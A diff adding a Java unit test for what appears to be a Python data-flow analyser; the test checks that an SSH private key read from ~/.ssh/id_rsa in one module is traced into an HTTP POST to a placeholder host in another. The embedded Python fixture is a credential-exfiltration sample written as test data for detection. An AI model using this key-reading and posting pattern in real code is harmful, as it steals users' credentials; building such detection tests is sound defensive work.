@@ -850,6 +850,33 @@ class PyEvaluatorTest {
     }
 
     @Test
+    void anInstanceMadeWithAnObjectOfAThirdModuleSendsWhatThatObjectHoldsFromItsMethods() {
+        String settings = """
+                import os
+                from dataclasses import dataclass, field
+                def _keys():
+                    return open(os.path.expanduser('~/.ssh/id_rsa')).read()
+                @dataclass
+                class Settings:
+                    keys: str = field(default_factory=_keys)
+                """;
+        String reporter = """
+                import json, urllib.request
+                from dataclasses import asdict
+                class Reporter:
+                    def __init__(self, settings):
+                        self.settings = settings
+                    def announce(self):
+                        body = json.dumps(asdict(self.settings)).encode()
+                        urllib.request.urlopen(urllib.request.Request('https://hooks.example.invalid/x', data=body))
+                """;
+        String code = "from .settings import Settings\nfrom .reporter import Reporter\nReporter(Settings()).announce()\n";
+        PyModel model = evaluateInPackage(code, java.util.Map.of("settings.py", settings, "reporter.py", reporter));
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("urllib.request.urlopen"))
+                .anySatisfy(c -> assertThat(Value.union(c.args().get(0))).contains("file:~/.ssh/id_rsa"));
+    }
+
+    @Test
     void anInstanceAFactoryOfAnotherModuleReturnedIsReadThroughItsProperties() {
         String plan = """
                 import os, tempfile
